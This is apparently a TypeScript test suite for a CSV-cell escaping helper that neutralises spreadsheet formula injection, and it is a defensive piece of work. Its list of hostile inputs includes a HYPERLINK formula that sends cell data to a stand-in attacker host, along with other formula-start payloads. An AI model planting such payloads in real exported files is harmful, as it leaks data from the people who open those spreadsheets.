import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_FORMULA_START, safeCsvCell, safeCsvLine, splitCsvLikeASpreadsheet, unprotectCsvCell } from './csv-cell';

const HOSTILE = [
  'x;=HYPERLINK("http://evil.example/?d="&A1,"click")',
  '=1+2',
  '+49 711 123',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  'a,=1',
  'a, =1',
  'a;"=1',
  'a";=1',
  'Müller, Hans',
];

/** Every cell a spreadsheet would read from the line, with either separator. */
function cellsUnderBothSeparators(line: string): string[] {
  return [...splitCsvLikeASpreadsheet(line, ','), ...splitCsvLikeASpreadsheet(line, ';')].flat();
}

describe('safe CSV cells', () => {
  it.each([
    ['plain', 'plain'],
    ['say "hi"', '"say ""hi"""'],
    ['=SUM(A1)', "'=SUM(A1)"],
    ['x;=HYPERLINK("u")', `"x;'=HYPERLINK(""u"")"`],
    ['a, -1', `"a, '-1"`],
    ['Vertrieb; Einkauf', '"Vertrieb; Einkauf"'],
    [null, ''],
    [true, 'true'],
  ])('writes %j as %s', (value, encoded) => {
    expect(safeCsvCell(value)).toBe(encoded);
  });

  it.each(HOSTILE)('no cell of a line holding %j starts a formula, split on "," or ";"', (value) => {
    const line = safeCsvLine(['anna', value, value, 'de']);
    for (const cell of cellsUnderBothSeparators(line)) expect(cell).not.toMatch(CSV_FORMULA_START);
  });

  it('holds for any text (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', ';', ',', '"', ' ', 'a', '\r') }), { minLength: 1, maxLength: 4 }), (values) => {
        const line = safeCsvLine(values);
        return cellsUnderBothSeparators(line.slice(0, -2)).every((cell) => !CSV_FORMULA_START.test(cell));
      }),
      { seed: 16, numRuns: 2000 },
    );
  });

  it('the comma split gives back the text, with only the leading apostrophe to undo', () => {
    const line = safeCsvLine(['=1+2', 'Müller, Hans', 'say "hi"']);
    expect(splitCsvLikeASpreadsheet(line, ',')[0]!.map(unprotectCsvCell)).toEqual(['=1+2', 'Müller, Hans', 'say "hi"']);
  });
});
